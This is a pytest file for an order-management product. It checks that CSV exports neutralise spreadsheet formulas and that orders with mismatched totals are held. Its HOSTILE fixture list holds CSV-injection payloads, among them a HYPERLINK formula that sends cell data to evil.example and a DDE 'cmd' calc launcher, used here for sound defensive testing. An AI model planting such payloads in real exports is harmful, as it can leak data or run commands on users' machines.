"""Files the product writes open safely in a spreadsheet (no cell runs as a formula), and an order whose
total disagrees with its own figures is taken in on hold with a warning that states them."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from pathlib import Path

import pytest

from core import csv_cells
from core.channels.registry import get_adapter
from core.errors import PayloadError
from core.fulfillment.three_pl import export_fulfillment_requests
from core.orders.checks import check_ranges, totals_warning
from core.orders.models import Order
from core.support.assistant import merchant
from tests.factories import make_channel, make_sku
from tests.fulfillment_factories import make_confirmed_order
from tests.inventory_factories import link, make_location, make_stock
from tests.security.channels import WEBHOOK_CHANNELS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_prefixes_formula_cells_and_restore_gives_them_back(value) -> None:
    safe = csv_cells.neutralise(value)
    assert safe.startswith("'") and not safe.startswith(csv_cells.FORMULA_STARTS)
    assert csv_cells.restore(safe) == value


@pytest.mark.parametrize("value", ["Ada Lovelace", "12 Main St", "", "'quoted", "a=b", 5, -5, None])
def test_neutralise_leaves_ordinary_cells_alone(value) -> None:
    assert csv_cells.neutralise(value) == value


def test_safe_writer_neutralises_every_row() -> None:
    out = io.StringIO()
    writer = csv_cells.writer(out)
    writer.writerow(["name", "qty"])
    writer.writerows([["=1+1", -2], ["ok", 3]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["name", "qty"], ["'=1+1", "-2"], ["ok", "3"]]


def test_three_pl_export_neutralises_customer_text(db) -> None:
    channel = make_channel(db, name="Marketplace")
    hub = make_location(db, name="Fulfil Co", code="3PL-SEC", kind="3pl", fulfillment_method="3pl")
    link(db, channel, hub)
    sku = make_sku(db, code="MUG-SEC", title="@SUM(1+1) mug")
    make_stock(db, hub, sku.id, 5)
    address = {
        "name": HOSTILE[0],
        "line1": "+1 Evil Way",
        "city": "-Springfield",
        "postal_code": "62701",
        "country": "US",
    }
    make_confirmed_order(db, channel, [(sku.id, 1)], shipping_address=address, shipping_method="=cmd()")
    rows = list(csv.DictReader(io.StringIO(export_fulfillment_requests(db, hub.id, fmt="csv"))))
    assert rows[0]["ship_to_name"] == "'" + HOSTILE[0]
    assert rows[0]["ship_to_line1"] == "'+1 Evil Way" and rows[0]["ship_to_city"] == "'-Springfield"
    assert rows[0]["shipping_method"] == "'=cmd()" and rows[0]["title"] == "'@SUM(1+1) mug"
    for row in rows:
        assert not any(str(v).startswith(csv_cells.FORMULA_STARTS) for v in row.values())


def test_every_csv_writer_in_the_product_goes_through_csv_cells() -> None:
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for folder in ("core", "portal", "agent_console", "api", "cli")
        for path in (root / folder).rglob("*.py")
        if path.name != "csv_cells.py"
        and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    ]
    assert offenders == []


def test_intents_file_round_trips_text_that_looks_like_a_formula(tmp_path) -> None:
    path = tmp_path / "intents.csv"
    rows = [{"text": "=where is my order", "intent": "order_status", "answer": "-see tracking"}]
    merchant.import_rows(rows, path)
    assert "'=where" in path.read_text()
    assert merchant.read_rows(path) == rows


# --- totals that disagree ---------------------------------------------------------------------------------


@pytest.fixture
def webshop(db):
    channel = next(c for c in WEBHOOK_CHANNELS if c.kind == "webshop")
    channel.create(db)
    db.commit()
    return channel


def _webshop_order(channel, **totals) -> bytes:
    document = json.loads(json.dumps(channel.sample))
    document["order"]["totals"].update(totals)
    return json.dumps(document).encode()


def test_order_total_far_from_its_figures_is_held_with_the_figures(client, db, webshop) -> None:
    original = webshop.sample["order"]["totals"]
    response = webshop.post(client, _webshop_order(webshop, total="9999.00"))
    assert response.status_code == 200
    [result] = response.get_json()["results"]
    assert result["status"] == "needs_attention"
    order = db.get(Order, result["order_id"])
    assert order.status == "on_hold"
    [warning] = [w for w in order.hold_warnings if w.startswith("total ")]
    assert "total 9999.00 EUR disagrees with subtotal" in warning
    assert f"subtotal {original['subtotal']}" in warning
    assert warning in order.hold_reason


def test_order_total_within_a_cent_or_one_percent_is_not_held_for_it(client, db, webshop) -> None:
    response = webshop.post(client, webshop.sample and json.dumps(webshop.sample).encode())
    order = db.get(Order, response.get_json()["results"][0]["order_id"])
    assert not any(w.startswith("total ") for w in order.hold_warnings)


def _canonical(**changes):
    channel = next(c for c in WEBHOOK_CHANNELS if c.kind == "webshop")
    [item] = get_adapter("webshop").extract([json.dumps(channel.sample)])
    return replace(item.order, **changes)


@pytest.mark.parametrize(
    ("totals", "held"),
    [
        (
            {"subtotal": 10000, "discount_total": 0, "shipping_total": 500, "tax_total": 800, "total": 11300},
            False,
        ),
        (
            {"subtotal": 10000, "discount_total": 0, "shipping_total": 500, "tax_total": 800, "total": 10500},
            False,
        ),
        (
            {"subtotal": 10000, "discount_total": 0, "shipping_total": 500, "tax_total": 800, "total": 11400},
            False,
        ),
        (
            {"subtotal": 10000, "discount_total": 0, "shipping_total": 500, "tax_total": 800, "total": 11500},
            True,
        ),
        ({"subtotal": 50, "discount_total": 0, "shipping_total": 0, "tax_total": 0, "total": 140}, False),
        (
            {"subtotal": 10000, "discount_total": 2000, "shipping_total": 0, "tax_total": 0, "total": 10000},
            True,
        ),
    ],
    ids=["exact", "tax-included", "within-1-percent", "off-by-2", "under-one-unit", "discount-ignored"],
)
def test_totals_warning_table(totals, held) -> None:
    assert (totals_warning(_canonical(currency="USD", **totals)) is not None) is held


def test_check_ranges_names_the_amount() -> None:
    with pytest.raises(PayloadError, match="total"):
        check_ranges(_canonical(total=10**15))
    check_ranges(_canonical())
